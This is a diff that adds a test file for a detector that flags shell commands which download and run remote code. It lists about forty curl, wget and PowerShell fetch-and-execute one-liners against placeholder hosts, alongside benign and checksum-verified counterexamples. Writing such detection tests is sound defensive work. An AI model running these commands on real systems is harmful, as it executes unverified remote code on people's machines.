@@ -1,0 +1,66 @@
+import { fetchesAndExecutes, fetchAndExecute } from '../../src/predicates/fetch-exec';
+const yes = [
+    'curl -fsSL https://get.example.com | sh',
+    'curl -s https://x.example/install.sh | bash -s -- --yes',
+    'wget -O- https://x.example/i.sh | sudo bash',
+    'wget -qO - https://x.example/i.sh | sudo -E sh',
+    'cd /tmp && curl https://x | env FOO=1 bash',
+    'bash <(curl -s https://x.example/i.sh)',
+    'sh -c "$(curl -fsSL https://x.example/install.sh)"',
+    'eval "$(wget -qO- https://x.example/env)"',
+    'iwr https://x.example/i.ps1 -UseBasicParsing | iex',
+    "Invoke-Expression ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))",
+    'CURL https://x | SH',
+    'curl -sSL https://x.example/a.py | python3',
+    'curl -sSL https://x.example/a.py | python3 -',
+    'curl -sSL https://x.example/a.js | node',
+    'wget -qO- https://x.example/a.pl | perl',
+    'curl https://x.example/a.rb | ruby',
+    'curl https://x.example/a.php | php',
+    'curl https://x.example/a.ps1 | pwsh -Command -',
+    'source <(curl -s https://x.example/env.sh)',
+    '. <(curl -s https://x.example/env.sh)',
+    'sh <(wget -O- https://x.example/i.sh)',
+    'python3 -c "$(curl -fsSL https://x.example/x.py)"',
+    'node -e "$(curl -fsSL https://x.example/x.js)"',
+    'bash < <(curl -s https://x)',
+    'sh <<< "$(curl -s https://x)"',
+    'bash -c "curl -s https://x | sh"',
+    'curl -o /tmp/i.sh https://x/i.sh && bash /tmp/i.sh',
+    'curl -fsSLo i.sh https://x/i.sh; chmod +x i.sh; ./i.sh',
+    'wget https://x.example/setup.sh && sh setup.sh',
+    'curl -s https://x > run.py && python3 run.py',
+    '(curl -s https://x) | sh',
+    '{ curl -s https://x; } | bash',
+    'iex (iwr https://x.example/i.ps1)',
+    'powershell -NoProfile -Command "iex (New-Object Net.WebClient).DownloadString(\'https://x\')"',
+    'curl -s https://x | sudo -u root python3',
+    'curl https://x | tee /tmp/a.sh >/dev/null && sh /tmp/a.sh',
+    'deno run https://x.example/mod.ts',
+    'echo "$(curl -s https://x)" | sh',
+    'curl -sSfL https://x | sh -s -- -b /usr/local/bin v1.2',
+    'curl -o x.sh https://x && (sha256sum -c x.sh.sha256 || true) && sh x.sh',
+];
+const no = [
+    'npm ci',
+    'curl -o install.sh https://x.example/i.sh && sha256sum -c install.sh.sha256 && sh install.sh',
+    'curl -s https://api.example/x | jq .version',
+    'curl -s https://api.example/x | python -m json.tool',
+    'echo hello | bash-completion',
+    'cat script.sh | bash',
+    'curl https://x || bash fallback.sh',
+    'curl -s https://x | python3 parse.py',
+    'bash scripts/build.sh',
+    'python3 -c "print(1)"',
+    'curl -o a.tgz https://x/a.tgz && echo "abc  a.tgz" | sha256sum -c && tar xzf a.tgz',
+    'curl -fsSL https://x/k -o /usr/local/bin/kubectl && echo "$SHA  /usr/local/bin/kubectl" | sha256sum --check && chmod +x /usr/local/bin/kubectl && kubectl version',
+    "echo 'curl x | sh'",
+    'git commit -m "curl | sh"',
+];
+test.each(yes)('yes %s', (c) => expect(fetchesAndExecutes(c)).toBe(true));
+test.each(no)('no %s', (c) => expect(fetchesAndExecutes(c)).toBe(false));
+test('across commands', () => {
+  expect(fetchAndExecute(['curl -o k https://x/k', 'chmod +x k', './k']).length).toBe(1);
+  expect(fetchAndExecute(['curl -o /usr/local/bin/k https://x/k', 'chmod +x /usr/local/bin/k', 'k version']).length).toBe(1);
+  expect(fetchAndExecute(['curl -o k https://x/k', 'sha256sum -c k.sha256', './k']).length).toBe(0);
+});
